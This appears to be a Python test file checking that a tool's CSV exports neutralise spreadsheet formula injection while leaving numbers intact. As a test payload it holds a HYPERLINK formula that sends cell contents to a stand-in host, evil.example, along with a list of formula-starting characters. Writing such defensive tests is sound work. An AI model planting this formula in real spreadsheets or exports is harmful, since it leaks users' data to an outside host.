# SPDX-License-Identifier: Apache-2.0
"""A spreadsheet that opens a CSV file finds no formula in the text of others, and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.simulated import by_facet, telling, told
from tests.unit.api import conftest as api
from tests.unit.client import conftest as clients
from watcher_sync.client import shell
from watcher_sync.client.commands.cells import cell, shown
from watcher_sync.client.export_formats import FORMATS, Column
from watcher_sync.commit.batch import Batch
from watcher_sync.commit.cycle import CommitCycle
from watcher_sync.model.changes import Upsert

conf = api.conf
store = api.store
application = api.application
url = clients.url

STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
"""What begins a formula (OWASP, CSV Injection)."""
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
TEXTS = st.text(st.sampled_from([*STARTS, "a", " ", "'", '"', ",", "1"]), max_size=6)
VALUES = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), TEXTS, st.lists(TEXTS, max_size=2)
)


def exported(*values):
    """The record of an entity with these values."""
    file = io.BytesIO()
    names = [f"f{number}" for number in range(len(values))]
    out = FORMATS["csv"](file, [Column(name, "text") for name in names])
    out.write([dict(zip(names, values, strict=True))])
    out.close()
    return list(csv.reader(io.StringIO(file.getvalue().decode(), newline="")))[1]


def is_formula(text):
    return text.startswith(tuple(STARTS))


@given(value=VALUES)
def test_no_cell_of_an_export_or_a_list_begins_a_formula_and_no_other_cell_changes(value):
    (text,) = exported(value)
    listed = shown(cell(value), "csv")
    if isinstance(value, str):
        assert text == (f"'{value}" if is_formula(value) else value)
        assert not is_formula(listed)
    elif isinstance(value, (int, float)) and not isinstance(value, bool):
        assert type(value)(text) == value
        assert listed == value
    else:
        assert not is_formula(text)
        assert not is_formula(str(listed))


@pytest.mark.parametrize("value", [-5, -1.5, 0])
def test_a_negative_number_stays_a_number(value):
    assert exported(value) == [str(value)]
    assert shown(cell(value), "csv") is value


@pytest.mark.parametrize("form", ["json", "yaml", "value", "table", "shell"])
def test_the_other_formats_have_the_text_as_it_is(form):
    assert shown(FORMULA, form) == FORMULA


@pytest.fixture
def hostile(store):
    cycle = CommitCycle(store, store.load(), telling())
    values = by_facet("instance", name=FORMULA, vcpus=2)
    cycle.run(Batch(events=[told(1, Upsert("instance", "@id", "1", values))]))


@pytest.mark.usefixtures("hostile")
@pytest.mark.parametrize(
    "words",
    [
        ("export", "instance"),
        ("entity", "list", "instance"),
        ("entity", "list", "instance", "--quote", "minimal"),
        ("search", FORMULA),
        ("event", "tail"),
        ("entity", "history", "list", "instance", "@id"),
    ],
)
def test_no_command_prints_a_formula_as_csv(url, capfd, words):
    assert shell.run(["--endpoint", url, *words, "-f", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capfd.readouterr().out, newline="")))
    assert len(rows) > 1
    assert not [text for record in rows for text in record if is_formula(text)]
    if words[0] in ("export", "search") or words[1] == "list":
        assert [f"'{FORMULA}" in record for record in rows[1:]] == [True]
